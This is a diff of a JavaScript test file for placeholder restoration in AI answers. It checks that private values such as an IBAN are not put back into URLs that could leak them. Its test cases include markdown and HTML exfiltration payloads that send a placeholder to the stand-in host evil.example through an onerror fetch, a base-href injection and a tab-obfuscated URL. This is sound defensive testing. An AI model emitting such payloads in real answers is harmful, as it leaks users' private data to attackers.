@@ -100,12 +100,15 @@ describe("A URL that begins after a sign", () => {
     '<base href=//evil.example>\n\n![x](/y){: src="q [IBAN_1]"}',
     "![x](/y){: onerror=\"fetch('/'+'/evil.example/?q= [IBAN_1]')\"}",
     '![x](/y){: src="ht\ttps://evil.example/?q= [IBAN_1]"}',
-  ])("a placeholder after a space in the URL stays, whole and streamed: %j", (text) => {
-    expect(whole(text)).toBe(text);
-    expect(streamed(text)).toBe(text);
-  });
+  ])(
+    "a placeholder after a space in the URL stays, in a whole answer and in a stream: %j",
+    (text) => {
+      expect(whole(text)).toBe(text);
+      expect(streamed(text)).toBe(text);
+    },
+  );
 
-  test("a placeholder after a value that is the URL stays, whole and streamed", () => {
+  test("a placeholder after a value that is itself the URL stays, in a whole answer and in a stream", () => {
     const text = 'background: ("[URL_1] [IBAN_1]")';
     const expected = 'background: ("https://own.example/start [IBAN_1]")';
     expect(whole(text)).toBe(expected);
@@ -134,11 +137,16 @@ describe("Text after a URL that has ended", () => {
     ["quotation without a URL", 'He wrote "News: [PERSON_1]"'],
     ["scheme without a URL", '(see the page "https" of [PERSON_1])'],
     ["with a parameter", "https://example.org/login?next=https://example.org/a for [PERSON_1]"],
-  ])("a value after a URL is restored, whole and streamed (%s): %j", (_where, text) => {
-    const expected = text.replace("[IBAN_1]", "DE89 3704 0044").replace("[PERSON_1]", "Anna Weber");
-    expect(whole(text)).toBe(expected);
-    expect(streamed(text)).toBe(expected);
-  });
+  ])(
+    "a value after a URL is restored, in a whole answer and in a stream (%s): %j",
+    (_where, text) => {
+      const expected = text
+        .replace("[IBAN_1]", "DE89 3704 0044")
+        .replace("[PERSON_1]", "Anna Weber");
+      expect(whole(text)).toBe(expected);
+      expect(streamed(text)).toBe(expected);
+    },
+  );
 });
 
 describe("An answer that is HTML as a whole", () => {
